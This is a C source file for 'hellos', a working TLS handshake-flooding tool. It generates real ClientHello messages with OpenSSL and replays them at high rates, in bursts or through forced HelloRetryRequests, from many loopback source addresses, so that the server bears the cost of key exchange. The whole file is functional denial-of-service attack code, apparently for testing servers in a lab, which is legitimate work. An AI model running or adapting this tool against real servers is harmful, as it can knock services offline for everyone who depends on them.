/*
 * Real ClientHellos, made once by OpenSSL and sent again and again: the attacker computes nothing, the attacked does (D(HE)at).
 *
 *     hellos make DIR           writes a file NAME.hello for each group, signature algorithm and key exchange that this OpenSSL knows
 *     hellos replay port=N [seconds=N] [rate=N] [sources=N] [connections=N] [end=close|answer|hold] FILE…
 *     hellos retry port=N [seconds=N] [rate=N] [sources=N] [connections=N] FILE…
 *     hellos burst port=N [seconds=N] [rate=N] [sources=N] [connections=N] FILE…
 *     hellos ask port=N FILE…   sends each file once, and prints those that are answered with a handshake
 *
 * `replay` opens connections at a rate from 127.106.x.y and sends one file on each. It then closes at once, closes when an answer begins,
 * or stays without reading. `retry` sends NAME.retry, a hello without a key share, waits for the HelloRetryRequest (RFC 8446 §4.1.4),
 * and once a second sends NAME.hello on all the connections that have one, at the same instant.
 * `burst` opens connections at the rate, and once a second sends a file on each at the same instant.
 *
 * compiled by scripts/attack:  cc -O2 -o hellos hellos.c $(pkg-config --cflags --libs openssl)
 */
#include "attack.h"
#include <poll.h>
#include <openssl/ec.h>
#include <openssl/objects.h>
#include <openssl/ssl.h>

enum {
	net = 106,
	MAX_HELLO = 16384,
	MAX_HELLOS = 512,
	/* The first byte tells a record with a handshake from an alert (RFC 8446 §5.1). */
	HANDSHAKE_RECORD = 0x16,
};

/* ---- make --------------------------------------------------------------------------------------------------------- */

static const char *const groups[] = {
	"X25519", "X448", "ffdhe2048", "ffdhe3072", "ffdhe4096", "ffdhe6144", "ffdhe8192", "X25519MLKEM768",
	"SecP256r1MLKEM768", "SecP384r1MLKEM1024", "MLKEM512", "MLKEM768", "MLKEM1024",
};

static const char *const signature_algorithms[] = {
	"ed25519", "ed448", "ECDSA+SHA1", "ECDSA+SHA224", "ECDSA+SHA256", "ECDSA+SHA384", "ECDSA+SHA512", "RSA+SHA1",
	"RSA+SHA224", "RSA+SHA256", "RSA+SHA384", "RSA+SHA512", "RSA-PSS+SHA256", "RSA-PSS+SHA384", "RSA-PSS+SHA512",
	"rsa_pss_pss_sha256", "rsa_pss_pss_sha384", "rsa_pss_pss_sha512", "DSA+SHA1", "DSA+SHA256", "mldsa44", "mldsa65",
	"mldsa87", "ecdsa_brainpoolP256r1tls13_sha256", "ecdsa_brainpoolP384r1tls13_sha384",
	"ecdsa_brainpoolP512r1tls13_sha512",
};

/* Key exchanges of TLS 1.2, as names of suites. */
static const char *const key_exchanges[] = { "kRSA", "kDHE", "kECDHE", "aDSS", "aNULL", "kPSK", "kDHEPSK", "kECDHEPSK", "kRSAPSK", "kSRP" };

/* What a client says first, into a file. Returns whether OpenSSL says anything at all. */
static bool make(const char *folder, const char *name, int version, const char *group, const char *algorithm,
		 const char *suites)
{
	SSL_CTX *context = SSL_CTX_new(TLS_client_method());
	BIO *nothing = BIO_new(BIO_s_mem()), *said = BIO_new(BIO_s_mem());
	SSL *client = NULL;
	bool is_made = false;
	char path[4096], *bytes;
	long count;
	FILE *file;

	SSL_CTX_set_security_level(context, 0);
	SSL_CTX_set_min_proto_version(context, version);
	SSL_CTX_set_max_proto_version(context, version);
	if (SSL_CTX_set1_groups_list(context, group) == 1 &&
	    (!algorithm || SSL_CTX_set1_sigalgs_list(context, algorithm) == 1) &&
	    SSL_CTX_set_cipher_list(context, suites) == 1 && (client = SSL_new(context))) {
		SSL_set_tlsext_host_name(client, "localhost");
		SSL_set_bio(client, nothing, said);
		SSL_connect(client);
		count = BIO_get_mem_data(said, &bytes);
		snprintf(path, sizeof(path), "%s/%s-%s.hello", folder, version == TLS1_3_VERSION ? "tls13" : "tls12", name);
		/* Where it can't say what it is told to, it says an alert. */
		if (count > 0 && count <= MAX_HELLO && bytes[0] == HANDSHAKE_RECORD && (file = fopen(path, "w"))) {
			is_made = fwrite(bytes, 1, count, file) == (size_t)count;
			is_made = fclose(file) == 0 && is_made;
		}
		SSL_free(client);
	} else {
		BIO_free(nothing);
		BIO_free(said);
	}
	SSL_CTX_free(context);
	return is_made;
}

static const char usual[] = "ALL:COMPLEMENTOFALL:@SECLEVEL=0";

/* In TLS 1.2 the server's certificate has to be of a group in the list too: there P-256 stands behind (RFC 8422 §5.1). */
static bool make_with_group(const char *folder, int version, const char *group)
{
	char list[128];
	bool is_alone = version == TLS1_3_VERSION || !strcmp(group, "prime256v1");

	snprintf(list, sizeof(list), "%s%s", group, is_alone ? "" : ":P-256");
	return make(folder, group, version, list, NULL, usual);
}

static int make_all(const char *folder)
{
	size_t curve_count = EC_get_builtin_curves(NULL, 0);
	EC_builtin_curve *curves = calloc(curve_count, sizeof(*curves));
	int made = 0, versions[] = { TLS1_2_VERSION, TLS1_3_VERSION };
	char name[128];

	if (!curves)
		return 1;
	EC_get_builtin_curves(curves, curve_count);
	for (int i = 0; i < 2; i++) {
		for (size_t g = 0; g < sizeof(groups) / sizeof(*groups); g++)
			made += make_with_group(folder, versions[i], groups[g]);
		for (size_t c = 0; c < curve_count; c++)
			made += make_with_group(folder, versions[i], OBJ_nid2sn(curves[c].nid));
		for (size_t s = 0; s < sizeof(signature_algorithms) / sizeof(*signature_algorithms); s++) {
			snprintf(name, sizeof(name), "signed-%s", signature_algorithms[s]);
			made += make(folder, name, versions[i], "X25519:P-256", signature_algorithms[s], usual);
		}
	}
	for (size_t k = 0; k < sizeof(key_exchanges) / sizeof(*key_exchanges); k++) {
		char suites[64];

		snprintf(name, sizeof(name), "exchange-%s", key_exchanges[k]);
		snprintf(suites, sizeof(suites), "%s:@SECLEVEL=0", key_exchanges[k]);
		made += make(folder, name, TLS1_2_VERSION, "X25519:P-256", NULL, suites);
	}
	free(curves);
	printf("%d\n", made);
	return made > 0 ? 0 : 1;
}

/* ---- replay and retry --------------------------------------------------------------------------------------------- */

struct hello {
	const char *path;
	unsigned char bytes[MAX_HELLO];
	size_t count;
};

enum state { FREE, CONNECTING, WAITING, READY, HELD };

static struct connection {
	enum state state;
	int file;
	double since;
	/* What it sends first; for `retry` also what it sends afterwards. */
	const struct hello *first, *second;
} connections[MAX_CONNECTIONS];

static struct hello hellos[MAX_HELLOS], retries[MAX_HELLOS];
static int hello_count, open_count, free_count, free_list[MAX_CONNECTIONS], poll_file;
static enum { CLOSE, ANSWER, HOLD } ending = ANSWER;
static bool is_retrying, is_bursting;

static void read_hello(const char *path, struct hello *hello)
{
	FILE *file = fopen(path, "r");

	hello->path = path;
	hello->count = file ? fread(hello->bytes, 1, MAX_HELLO, file) : 0;
	if (file)
		fclose(file);
	if (!hello->count) {
		fprintf(stderr, "hellos: %s can't be read\n", path);
		exit(1);
	}
}

static void take_file(const char *path)
{
	char other[4096];
	size_t stem = strlen(path) - strlen(".hello");

	if (hello_count == MAX_HELLOS || strlen(path) < strlen(".hello") || strcmp(path + stem, ".hello")) {
		fprintf(stderr, "hellos: up to %d files NAME.hello\n", MAX_HELLOS);
		exit(EX_USAGE);
	}
	read_hello(path, &hellos[hello_count]);
	if (is_retrying) {
		snprintf(other, sizeof(other), "%.*s.retry", (int)stem, path);
		read_hello(other, &retries[hello_count]);
	}
	hello_count++;
}

static void end(struct connection *connection)
{
	close(connection->file);
	connection->state = FREE;
	free_list[free_count++] = (int)(connection - connections);
	open_count--;
}

static void refused(struct connection *connection)
{
	figures.refused++;
	end(connection);
}

static void watch(struct connection *connection, unsigned int events)
{
	struct epoll_event event = { .events = events, .data.ptr = connection };

	if (epoll_ctl(poll_file, EPOLL_CTL_MOD, connection->file, &event) && errno == ENOENT)
		epoll_ctl(poll_file, EPOLL_CTL_ADD, connection->file, &event);
}

/* A hello fits into any socket's buffer: it leaves as a whole, or the connection is no good. */
static void say(struct connection *connection, const struct hello *hello)
{
	ssize_t sent = send(connection->file, hello->bytes, hello->count, 0);

	if (sent < 0 && (errno == EAGAIN || errno == ENOTCONN)) {
		connection->state = CONNECTING;
		return watch(connection, EPOLLOUT);
	}
	if (sent != (ssize_t)hello->count)
		return refused(connection);
	figures.sent += sent;
	if (ending == CLOSE)
		return end(connection);
	connection->state = ending == HOLD ? HELD : WAITING;
	watch(connection, ending == HOLD ? EPOLLRDHUP : EPOLLIN | EPOLLRDHUP);
}

static void open_one(double time)
{
	struct connection *connection;
	int which = figures.opened % (unsigned long)hello_count, file = dial(net, figures.opened);

	if (file < 0)
		return;
	figures.opened++;
	connection = &connections[free_list[--free_count]];
	*connection = (struct connection){ .file = file, .since = time };
	connection->first = is_retrying ? &retries[which] : &hellos[which];
	connection->second = is_retrying || is_bursting ? &hellos[which] : NULL;
	open_count++;
	if (!is_bursting)
		return say(connection, connection->first);
	connection->state = READY;
	watch(connection, EPOLLRDHUP);
}

static void answered(struct connection *connection)
{
	static unsigned char bytes[MAX_READ];
	ssize_t count = recv(connection->file, bytes, sizeof(bytes), 0);

	if (count < 0 && errno == EAGAIN)
		return;
	if (count <= 0)
		return refused(connection);
	figures.received += count;
	if (bytes[0] != HANDSHAKE_RECORD)
		return refused(connection);
	figures.answered++;
	if (!connection->second)
		return end(connection);
	connection->state = READY;
	watch(connection, EPOLLRDHUP);
}

static void happened(struct connection *connection, unsigned int events)
{
	if (connection->state == CONNECTING && !(events & (EPOLLERR | EPOLLHUP)))
		say(connection, connection->first);
	else if (connection->state == WAITING && (events & EPOLLIN))
		answered(connection);
	else if (connection->state != FREE)
		refused(connection);
}

/* The second hello of all that have been asked for one; the only hello of a burst. */
static void send_second(void)
{
	for (int i = 0; i < (int)options.connections; i++) {
		const struct hello *second = connections[i].second;

		if (connections[i].state != READY)
			continue;
		connections[i].second = NULL;
		say(&connections[i], second);
	}
}

static void give_up(double time)
{
	for (int i = 0; i < (int)options.connections; i++) {
		enum state state = connections[i].state;

		if ((state == CONNECTING || state == WAITING) && connections[i].since < time - stuck_after)
			refused(&connections[i]);
	}
}

static void run(void)
{
	struct epoll_event events[MAX_EVENTS];
	double due, second, finish;

	poll_file = epoll_create1(EPOLL_CLOEXEC);
	for (int i = (int)options.connections; i > 0; i--)
		free_list[free_count++] = i - 1;
	begin();
	due = figures.started;
	second = figures.started + 1;
	finish = figures.started + options.seconds;
	for (double time = due; time < finish; time = now()) {
		while (due <= time && free_count > 0) {
			open_one(time);
			due = next_due(due, time);
		}
		if (time >= second) {
			if (is_retrying || is_bursting)
				send_second();
			give_up(time);
			second += 1;
		}
		int wait = due > time && due - time < 0.05 ? (int)((due - time) * 1e3) + 1 : 50;
		int count = epoll_wait(poll_file, events, MAX_EVENTS, free_count > 0 && due <= time ? 1 : wait);

		for (int i = 0; i < count; i++)
			happened(events[i].data.ptr, events[i].events);
	}
	report();
}

/* ---- ask ---------------------------------------------------------------------------------------------------------- */

/* One after the other, each from another address: a limit of an address isn't what is asked about. */
static void ask(void)
{
	options.sources = MAX_HELLOS;
	for (int i = 0; i < hello_count; i++) {
		struct pollfd wait = { .fd = dial(net, i), .events = POLLOUT };
		const struct hello *hello = &hellos[i];
		unsigned char first = 0;

		if (wait.fd < 0)
			continue;
		if (poll(&wait, 1, 5000) == 1 && send(wait.fd, hello->bytes, hello->count, 0) == (ssize_t)hello->count) {
			wait.events = POLLIN;
			if (poll(&wait, 1, 5000) == 1 && recv(wait.fd, &first, 1, 0) == 1 && first == HANDSHAKE_RECORD)
				printf("%.*s\n", (int)(strlen(hello->path) - strlen(".hello")), hello->path);
		}
		close(wait.fd);
	}
}

int main(int count, char **arguments)
{
	bool is_asking = count > 1 && !strcmp(arguments[1], "ask");

	if (count == 3 && !strcmp(arguments[1], "make"))
		return make_all(arguments[2]);
	is_retrying = count > 1 && !strcmp(arguments[1], "retry");
	is_bursting = count > 1 && !strcmp(arguments[1], "burst");
	for (int i = 2; i < count; i++) {
		const char *value = value_of(arguments[i], "end");

		if (value)
			ending = !strcmp(value, "close") ? CLOSE : !strcmp(value, "hold") ? HOLD : ANSWER;
		else if (!take_common(arguments[i]))
			take_file(arguments[i]);
	}
	if (count < 2 || (!is_retrying && !is_bursting && !is_asking && strcmp(arguments[1], "replay")) || !hello_count || !options.port) {
		fprintf(stderr, "usage: hellos make DIR | hellos replay|retry|burst|ask port=N [NAME=VALUE…] FILE…\n");
		return EX_USAGE;
	}
	if (is_asking)
		ask();
	else
		run();
	return 0;
}
